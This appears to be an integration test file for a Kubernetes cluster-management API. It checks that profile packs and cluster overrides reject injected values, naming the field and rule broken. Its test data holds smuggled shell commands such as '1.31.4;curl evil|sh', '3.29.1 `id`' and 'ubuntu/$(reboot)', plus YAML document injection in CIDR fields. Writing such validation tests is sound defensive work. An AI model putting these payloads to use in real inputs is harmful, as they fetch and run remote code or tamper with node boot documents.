import { BUILT_IN_PROFILES } from '../../store/built-in-profiles';
import { ApiUnderTest, startApi } from '../support/api-app';
import { call, JsonResponse } from '../support/http';
import { RunningMoto, startMoto } from '../support/moto';
import { exampleSpec } from '../unit/fixtures';

/**
 * Pack versions and values reach a node's boot documents, so the API takes only what each
 * known pack's grammar allows, in profiles and in a cluster's overrides, and says which field
 * broke which rule. Real HTTP, a real store and STS/EC2 from a real moto; no Temporal: nothing
 * here may get as far as starting a workflow.
 */
describe('pack grammars at the API', () => {
  let moto: RunningMoto;
  let api: ApiUnderTest;
  let base: string;
  let token: string;
  let accountId: string;

  beforeAll(async () => {
    moto = await startMoto();
    api = await startApi({ awsEndpoint: moto.url });
    ({ base, token } = api);
    const account = await call(base, 'POST', '/v1/cloud-accounts', {
      token,
      body: { name: 'acct', accessKeyId: 'AKIAIOSFODNN7EXAMPLE', secretAccessKey: 'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY' },
    });
    accountId = account.body.id;
  });

  afterAll(async () => {
    await api?.close();
    await moto?.stop();
  });

  const builtInPacks = () => JSON.parse(JSON.stringify(BUILT_IN_PROFILES[0].packs)) as Array<{ name: string; layer: string; version: string; values: Record<string, unknown> }>;
  const problems = (r: JsonResponse) => (r.body?.details ?? []).map((d: { field: string; rule: string }) => `${d.field}:${d.rule}`);

  async function postProfile(name: string, mutate: (packs: ReturnType<typeof builtInPacks>) => void) {
    const packs = builtInPacks();
    mutate(packs);
    return call(base, 'POST', '/v1/cluster-profiles', { token, body: { name, packs } });
  }

  async function profileNames(): Promise<string[]> {
    return (await call(base, 'GET', '/v1/cluster-profiles', { token })).body.map((p: { name: string }) => p.name);
  }

  async function postCluster(overrides: Record<string, unknown>) {
    const spec = exampleSpec();
    spec.cloud.accountId = accountId;
    spec.profile.overrides = overrides;
    return call(base, 'POST', '/v1/clusters', { token, body: spec });
  }

  describe('POST /v1/cluster-profiles', () => {
    it('accepts the built-in profiles’ own packs', async () => {
      for (const profile of BUILT_IN_PROFILES) {
        const r = await call(base, 'POST', '/v1/cluster-profiles', { token, body: { name: `copy-of-${profile.id}`, packs: profile.packs } });
        expect(r.status).toBe(201);
        expect(r.body.packs).toEqual(profile.packs);
      }
    });

    it('refuses a Kubernetes version with a shell command in it, naming the field and rule', async () => {
      const r = await postProfile('injected-version', (packs) => (packs[1].version = '1.31.4;curl evil|sh'));
      expect(r.status).toBe(422);
      expect(problems(r)).toEqual(['packs.1.version:pack-version']);
      expect(r.body.message).toContain('packs.1.version: pack "kubernetes" version must be a Kubernetes release');
      expect(await profileNames()).not.toContain('injected-version');
    });

    it('refuses a pod CIDR that carries a YAML document of its own', async () => {
      const r = await postProfile('injected-cidr', (packs) => (packs[1].values.podCIDR = '10.244.0.0/16\n---\nkind: Evil'));
      expect(r.status).toBe(422);
      expect(problems(r)).toEqual(['packs.1.values.podCIDR:cidr']);
    });

    it('refuses an unknown value key, naming the pack and the key', async () => {
      const r = await postProfile('unknown-key', (packs) => (packs[1].values.foo = 'bar'));
      expect(r.status).toBe(422);
      expect(r.body.details).toEqual([{ field: 'packs.1.values.foo', rule: 'known-pack-value', message: 'pack "kubernetes" has no value "foo" (it takes only podCIDR, serviceCIDR)' }]);
    });

    it('refuses packs it has no grammar for, and CNI versions outside theirs', async () => {
      const unknown = await postProfile('unknown-pack', (packs) => packs.push({ name: 'my-addon', layer: 'addon', version: '1.0.0', values: { script: 'curl evil|sh' } }));
      expect(unknown.status).toBe(422);
      expect(problems(unknown)).toEqual(['packs.4.name:known-pack']);
      const cni = await postProfile('cni-version', (packs) => (packs[2].version = '3.29.1 `id`'));
      expect(problems(cni)).toEqual(['packs.2.version:pack-version']);
    });
  });

  describe('POST /v1/clusters profile.overrides', () => {
    it('refuses a pod CIDR override with a newline', async () => {
      const r = await postCluster({ kubernetes: { podCIDR: '10.244.0.0/16\n---\nkind: Evil' } });
      expect(r.status).toBe(422);
      expect(problems(r)).toEqual(['profile.overrides.kubernetes.podCIDR:cidr']);
    });

    it('refuses an unknown override key, naming the pack and the key', async () => {
      const r = await postCluster({ kubernetes: { podCIDR: '172.20.0.0/16', foo: 'bar' } });
      expect(r.status).toBe(422);
      expect(r.body.details).toEqual([{ field: 'profile.overrides.kubernetes.foo', rule: 'known-pack-value', message: 'pack "kubernetes" has no value "foo" (it takes only podCIDR, serviceCIDR)' }]);
    });

    it('refuses override values outside their grammar', async () => {
      const r = await postCluster({ ubuntu: { amiNamePattern: 'ubuntu/$(reboot)' }, 'aws-ebs-csi': { defaultStorageClass: 'gp3\n---' } });
      expect(r.status).toBe(422);
      expect(problems(r)).toEqual(['profile.overrides.ubuntu.amiNamePattern:ami-name-pattern', 'profile.overrides.aws-ebs-csi.defaultStorageClass:dns-label']);
    });
  });
});
